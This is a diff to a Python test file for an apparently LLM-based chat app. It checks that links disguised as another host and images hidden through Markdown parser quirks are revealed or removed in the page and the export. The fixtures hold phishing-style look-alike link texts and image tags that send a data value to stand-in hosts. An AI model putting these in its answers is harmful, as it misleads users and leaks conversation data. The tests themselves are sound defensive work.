@@ -34,7 +34,7 @@ from app.pages.worker import ExtractionProcess
 from app.search.embedded import free_port
 from tests.browser import open_page, page_server
 from tests.chat_client import new_conversation, send
-from tests.conftest import ROOT, ChatService, chat_env, run_cli
+from tests.conftest import ROOT, ChatService, chat_env, run_cli, service_for
 from tests.fakes.llm_server import Reply
 from tests.fakes.pages import ARTICLE, ARTICLE_TITLE
 
@@ -526,18 +526,37 @@ def test_a_page_slow_to_extract_is_stopped_and_the_next_page_is_read(pages):
 # -- a link must go where it says ----------------------------------------------------------------
 
 
+# A link's text that a reader takes for one host while the link goes to another: the page
+# and the export both show such a link's target instead. (text, target, what is shown)
+DISGUISED_LINKS = [
+    ("paypal.com\u200b", "https://evil.example/a", "https://evil.example/a"),  # zero-width space
+    ("pay\u00adpal.com", "https://evil.example/b", "https://evil.example/b"),  # soft hyphen
+    ("bank.example.", "https://evil.example/c", "https://evil.example/c"),  # trailing dot
+    ("paypal\u3002com", "https://evil.example/d", "https://evil.example/d"),  # ideographic dot
+    ("p\u0430ypal.com", "https://paypal.com/e", "https://paypal.com/e"),  # a Cyrillic a
+    # The same host, however it is written, keeps its text.
+    ("BANK.example.", "https://bank.example/f", "BANK.example."),
+    ("b\u00fccher.example", "https://xn--bcher-kva.example/g", "b\u00fccher.example"),
+    ("www.bank.example", "https://bank.example/h", "www.bank.example"),
+]
+DISGUISED_MARKDOWN = " ".join(f"[{text}]({target})" for text, target, _ in DISGUISED_LINKS)
+SHOWN_LINKS = [[shown, target] for _, target, shown in DISGUISED_LINKS]
+
+
 def test_the_page_shows_the_real_target_of_a_link_named_after_another_address(page):
     page.evaluate(
-        """async () => {
+        """async (disguised) => {
           const m = await import('/static/js/markdown.js');
           const c = document.createElement('div');
           c.id = 'links';
           c.append(m.renderMarkdown(
             '[https://bank.example/login](https://evil.example/x?d=1) ' +
             '[www.bank.example](https://evil.example/) [the docs](https://evil.example/) ' +
-            '[bank.example/a](https://www.bank.example/b) ![](https://evil.example/p.png?d=1)'));
+            '[bank.example/a](https://www.bank.example/b) ![](https://evil.example/p.png?d=1) ' +
+            disguised));
           document.body.append(c);
-        }"""
+        }""",
+        DISGUISED_MARKDOWN,
     )
     links = page.evaluate(
         "[...document.querySelectorAll('#links a')].map((a) => [a.textContent, a.href])"
@@ -547,6 +566,7 @@ def test_the_page_shows_the_real_target_of_a_link_named_after_another_address(pa
         ["https://evil.example/", "https://evil.example/"],
         ["the docs", "https://evil.example/"],  # a text that names no address stays
         ["bank.example/a", "https://www.bank.example/b"],  # the same host stays
+        *SHOWN_LINKS,
     ]
     assert page.evaluate("document.querySelectorAll('#links img').length") == 0
 
@@ -575,6 +595,124 @@ def test_the_export_loads_nothing_and_its_links_go_where_they_say(chat, llm):
     for target, text in links:
         if text.startswith("http"):
             assert urlsplit(html_lib.unescape(text)).hostname == urlsplit(target).hostname
+
+
+# Markdown that hides an image from a defuser that reads it otherwise than a viewer does.
+HIDDEN_IMAGES = {
+    # The escape of "![" doubles the backslash the model wrote: \\![x](...) is an image.
+    "escaped bang": "A \\![x](https://a.example/?d=S) B",
+    # Escaped backticks open no code span: the image between them is one.
+    "escaped backticks": "\\`![x](https://a.example/?d=S)\\`",
+    # A backtick in a backtick fence's info string makes it no fence: the lines after it are
+    # ordinary Markdown.
+    "not a fence": "``` a`b\n![x](https://a.example/?d=S)\n",
+    # A GFM table splits its cells before their code spans: a CommonMark reading sees one
+    # code span where a GitHub-like viewer sees an image in the middle cell.
+    "table cell": "| `a | ![x](https://a.example/?d=S) | b` |\n|---|---|---|\n| c | d | e |\n",
+    # A "<", then an escaped one: written back, the second must stay escaped.
+    "two less-thans": '<\\<img src="https://a.example/?d=S">',
+    "html block": '<div>\n<img src="https://a.example/?d=S">\n</div>\n\nafter',
+    "inline image": "Done ![](https://a.example/p.png?d=S)",
+    "reference image": "![x][r]\n\n[r]: https://a.example/r.png?d=S\n",
+    "html image": 'and <img src="https://a.example/q.png?d=S"> too',
+    "image in a link": "[![x](https://a.example/p.png?d=S)](https://docs.example/)",
+}
+VIEWERS = {
+    "CommonMark": MarkdownIt("commonmark"),
+    "with tables": MarkdownIt("commonmark").enable("table"),
+}
+
+
+@pytest.mark.parametrize("hidden", HIDDEN_IMAGES.values(), ids=HIDDEN_IMAGES.keys())
+def test_the_export_loads_no_image_wherever_the_markdown_hides_it(chat, llm, hidden):
+    """In the answer and in your message (which may quote a page): neither a CommonMark
+    viewer nor one that knows GFM's tables loads an image."""
+    llm.script(Reply(text=hidden))
+    conversation = new_conversation(chat)
+    send(chat, conversation, hidden)
+    exported = chat.http.get(f"/api/conversations/{conversation}/export").text
+    for viewer in VIEWERS.values():
+        html = viewer.render(exported)
+        assert "<img" not in html
+
+
+def test_what_is_too_long_to_render_is_exported_as_written(chat, llm):
+    """Past 64 KB a message is exported as a code block, and a paragraph of over 1,000
+    inline elements as its text (each costs mdformat a search of the others): shown as
+    written, the image in them never loaded."""
+    image = "![x](https://a.example/?d=S)"
+    long_message = f"{image} " + "word " * 14_000
+    many_elements = "*a*" * 600 + f" {image}"
+    llm.script(Reply(text=many_elements))
+    conversation = new_conversation(chat)
+    send(chat, conversation, long_message)
+    exported = chat.http.get(f"/api/conversations/{conversation}/export").text
+    html = VIEWERS["CommonMark"].render(exported)
+    assert "<img" not in html
+    assert f"<pre><code>{image} word word" in html
+    assert "<p>" + "*a*" * 600 + f" {image}</p>" in html
+
+
+ORDINARY = """## Pierogi
+
+Boil **1 kg** of potatoes, then *mash* them ([the recipe](https://recipes.example/pierogi)).
+
+1. Knead the dough.
+2. Fill it:
+   - potatoes and cheese
+   - onions
+
+```python
+print("![not an image](x) <b>")
+```
+
+| step | minutes |
+|:-----|--------:|
+| boil | 20 |
+| fry | 5 `and a bit` |
+
+> Serve hot, see <https://recipes.example/> or mail <cook@recipes.example>.
+
+---
+
+The end\
+of the answer."""
+
+
+def test_ordinary_markdown_survives_the_export(chat, llm):
+    """Headings, emphasis, links, lists, code blocks, tables, quotes: a viewer shows the
+    exported answer as it shows the answer itself."""
+    llm.script(Reply(text=ORDINARY))
+    conversation = new_conversation(chat)
+    send(chat, conversation, "How do I make pierogi?")
+    exported = chat.http.get(f"/api/conversations/{conversation}/export").text
+    viewer = VIEWERS["with tables"]
+    answer = exported.split("## Assistant", 1)[1].split("\n", 1)[1]
+    assert viewer.render(answer).split() == viewer.render(ORDINARY).split()
+
+
+@pytest.fixture
+def chat_on_backend(request, llm, pages, searxng, tmp_path, database_url):
+    """A chat service on each storage backend."""
+    llm.clear()
+    env = chat_env(llm, tmp_path, pages, DATABASE_URL=database_url)
+    with service_for(request, env, searxng.url) as service:
+        yield service
+
+
+def test_the_export_shows_the_target_of_a_link_disguised_as_another_host(chat_on_backend, llm):
+    """The same rule as the page's: a text a reader takes for another host than the link's
+    (a zero-width space, a trailing dot, a look-alike letter) shows the link's target."""
+    llm.script(Reply(text=DISGUISED_MARKDOWN))
+    conversation = new_conversation(chat_on_backend)
+    send(chat_on_backend, conversation, "hi")
+    exported = chat_on_backend.http.get(f"/api/conversations/{conversation}/export").text
+    html = VIEWERS["CommonMark"].render(exported.split("## Assistant", 1)[1])
+    links = [
+        [html_lib.unescape(text), html_lib.unescape(target)]
+        for target, text in re.findall(r'<a href="([^"]*)">(.*?)</a>', html)
+    ]
+    assert links == SHOWN_LINKS
 
 
 def test_the_settings_template_never_suggests_opening_the_model_server_to_the_lan():
